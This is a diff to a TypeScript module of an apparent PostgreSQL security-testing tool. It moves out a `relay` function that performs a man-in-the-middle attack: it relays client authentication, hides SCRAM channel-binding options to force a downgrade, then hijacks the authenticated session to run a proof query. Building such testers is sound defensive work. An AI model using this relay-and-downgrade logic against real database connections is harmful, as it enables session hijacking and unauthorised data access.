@@ -1,7 +1,7 @@
 import { createServer, type Server, type Socket } from "node:net";
 import { TLSSocket } from "node:tls";
 import { Connection, describeSocketError } from "../net/connection.js";
-import { frameMessage, parseAuthentication, parseErrorResponse } from "../pgwire/backend.js";
+import { frameMessage } from "../pgwire/backend.js";
 import { parseFirstPacket, parseSaslInitialResponse } from "../pgwire/client-messages.js";
 import {
   authenticationCleartextPassword,
@@ -10,7 +10,7 @@ import {
 } from "../pgwire/server-messages.js";
 import type { Issued } from "../tls/certs.js";
 import type { Attack, ConnectionFacts } from "./model.js";
-import { openUpstream, runQuery, type Upstream } from "./upstream-relay.js";
+import { relay, type Upstream } from "./upstream-relay.js";
 
 export interface ProxyOptions {
   attack: Attack;
@@ -238,87 +238,4 @@ async function authenticate(
     );
   }
   client.write(errorResponse("28P01", "password authentication failed"));
-}
-
-/**
- * Relays authentication between the client and the real server over verified TLS; once the server says
- * AuthenticationOk, the session is the proxy's: it runs PROOF_QUERY itself, then closes both sides. False when
- * the real server could not be reached (nothing was relayed).
- */
-async function relay(
-  client: Connection,
-  f: ConnectionFacts,
-  upstream: Upstream,
-  params: Record<string, string>,
-  timeoutMs: number,
-): Promise<boolean> {
-  const step = (s: string) => f.steps.push(s);
-  const server = await openUpstream(upstream, params, timeoutMs);
-  if ("error" in server) {
-    step(
-      `proxy could not reach the real server (${server.error}): it asks for authentication itself, and the query step cannot run`,
-    );
-    return false;
-  }
-  f.relayed = true;
-  step("proxy relayed the StartupMessage to the real server over verified TLS");
-  try {
-    for (let i = 0; i < 16; i++) {
-      const m = await nextMessage(server.conn, timeoutMs);
-      if (m.kind !== "ok" || m.value.kind !== "message") {
-        step("the real server stopped answering during authentication");
-        return true;
-      }
-      const raw = server.conn.buffer.subarray(0, 1 + m.value.message.body.length + 4);
-      server.conn.consume(raw.length);
-      const { type, body } = m.value.message;
-      if (type === "E") {
-        const e = parseErrorResponse(body);
-        f.upstreamRefusal = `${e.code} ${e.message}`;
-        step(`the real server refused the relayed authentication: ${e.code} ${e.message}`);
-        client.write(raw);
-        return true;
-      }
-      if (type !== "R") continue;
-      const auth = parseAuthentication(body);
-      if (auth?.code === 0) {
-        f.upstreamAuthenticated = true;
-        step(
-          "the real server accepted the relayed authentication (AuthenticationOk): the session is the proxy's",
-        );
-        f.query = await runQuery(server.conn, timeoutMs);
-        step(
-          f.query.result !== undefined
-            ? `proxy ran ${f.query.sql} on the hijacked session → ${f.query.result}`
-            : `proxy's query failed: ${f.query.error}`,
-        );
-        client.write(errorResponse("08006", "connection taken over by wirewarden prove"));
-        return true;
-      }
-      if (auth?.code === 10 && !f.tlsEstablished && auth.mechanisms.some((m) => m.endsWith("-PLUS"))) {
-        // libpq refuses SCRAM-SHA-256-PLUS offered over plaintext, so an attacker hides it, as this one does.
-        const plain = auth.mechanisms.filter((m) => !m.endsWith("-PLUS"));
-        step(
-          `the real server offered ${auth.mechanisms.join(", ")}; proxy passed on only ${plain.join(", ")}`,
-        );
-        client.write(authenticationSasl(plain));
-      } else client.write(raw);
-      if (auth?.code === 11 || auth?.code === 10 || auth?.code === 3 || auth?.code === 5) {
-        const reply = await nextMessage(client, timeoutMs);
-        if (reply.kind !== "ok" || reply.value.kind !== "message") {
-          step(`client stopped authenticating after ${auth.name}`);
-          return true;
-        }
-        const len = 1 + 4 + reply.value.message.body.length;
-        const clientRaw = client.buffer.subarray(0, len);
-        client.consume(len);
-        if (reply.value.message.type === "p") f.answeredAuth = true;
-        step(`client answered ${auth.name}; relayed`);
-        server.conn.write(clientRaw);
-      }
-    }
-  } finally {
-    server.conn.close();
-  }
-  return true;
 }
